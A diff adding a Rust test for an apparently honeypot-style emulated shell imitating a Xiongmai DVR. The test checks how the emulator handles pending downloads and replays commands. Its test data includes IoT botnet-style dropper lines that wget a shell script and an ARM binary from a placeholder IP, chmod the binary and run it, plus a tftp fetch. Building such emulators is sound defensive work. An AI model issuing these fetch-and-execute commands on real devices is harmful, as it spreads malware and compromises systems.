@@ -271,3 +271,87 @@ fn variables_are_bounded() {
     let total: usize = sh.vars.values().map(|v| v.len()).sum();
     assert!(total <= crate::exec::MAX_VARS_BYTES);
 }
+
+#[test]
+fn downloads_wait_for_the_fetch_and_replay() {
+    use crate::{FetchFailure, FetchRequest, FetchResult};
+    use std::sync::Arc;
+    let mut sh = shell("dvr-xiongmai");
+    sh.enable_fetching();
+    let script =
+        b"#!/bin/sh\ncd /tmp; wget http://203.0.113.5/a.arm7; chmod +x a.arm7; ./a.arm7 go\n"
+            .to_vec();
+    let line = "cd /var; echo before > note; wget http://203.0.113.5/bins.sh; sh bins.sh";
+    // 1st run: waits for bins.sh; nothing of the line happened.
+    let o = run(&mut sh, line);
+    assert_eq!(
+        o.pending,
+        Some(FetchRequest {
+            url: "http://203.0.113.5/bins.sh".into(),
+            tool: "wget"
+        })
+    );
+    assert!(o.output.is_empty() && o.effects.is_empty());
+    assert_eq!(sh.cwd(), "/root", "the state is rolled back");
+    sh.provide(
+        "http://203.0.113.5/bins.sh",
+        FetchResult::Fetched {
+            bytes: Arc::new(script),
+            remote: "203.0.113.5:80".into(),
+        },
+    );
+    // 2nd run: the script runs and waits for the binary it fetches.
+    let o = run(&mut sh, line);
+    assert_eq!(
+        o.pending.as_ref().map(|p| p.url.as_str()),
+        Some("http://203.0.113.5/a.arm7")
+    );
+    let elf: Vec<u8> = b"\x7fELF\x01\x01\x01binary".to_vec();
+    sh.provide(
+        "http://203.0.113.5/a.arm7",
+        FetchResult::Fetched {
+            bytes: Arc::new(elf.clone()),
+            remote: "203.0.113.5:80".into(),
+        },
+    );
+    let o = run(&mut sh, line);
+    assert!(o.pending.is_none());
+    let text = String::from_utf8_lossy(&o.output).into_owned();
+    assert!(
+        text.contains("Connecting to 203.0.113.5 (203.0.113.5:80)"),
+        "{text}"
+    );
+    assert!(
+        text.contains("bins.sh              100% |*******************************|"),
+        "{text}"
+    );
+    let downloads = o
+        .effects
+        .iter()
+        .filter(|e| matches!(e, Effect::Download { .. }))
+        .count();
+    assert_eq!(downloads, 2);
+    assert!(o.effects.iter().any(|e| matches!(e, Effect::Executed { path, bytes: Some(b), .. } if path == "/tmp/a.arm7" && **b == elf)));
+    assert_eq!(
+        out(&mut sh, "cat /var/note"),
+        "before\n",
+        "the replayed line ran exactly once"
+    );
+    // A failed fetch prints the tool's own error.
+    let o = run(&mut sh, "wget http://203.0.113.5/missing");
+    sh.provide(
+        &o.pending.unwrap().url,
+        FetchResult::Failed(FetchFailure::HttpStatus(404, "Not Found".into())),
+    );
+    assert!(out(&mut sh, "wget http://203.0.113.5/missing")
+        .contains("wget: server returned error: HTTP/1.1 404 Not Found"));
+    let o = run(&mut sh, "tftp -g -r x 203.0.113.5");
+    sh.provide(
+        &o.pending.unwrap().url,
+        FetchResult::Failed(FetchFailure::Server("File not found".into())),
+    );
+    assert_eq!(
+        out(&mut sh, "tftp -g -r x 203.0.113.5"),
+        "tftp: server error: (1) File not found\n"
+    );
+}
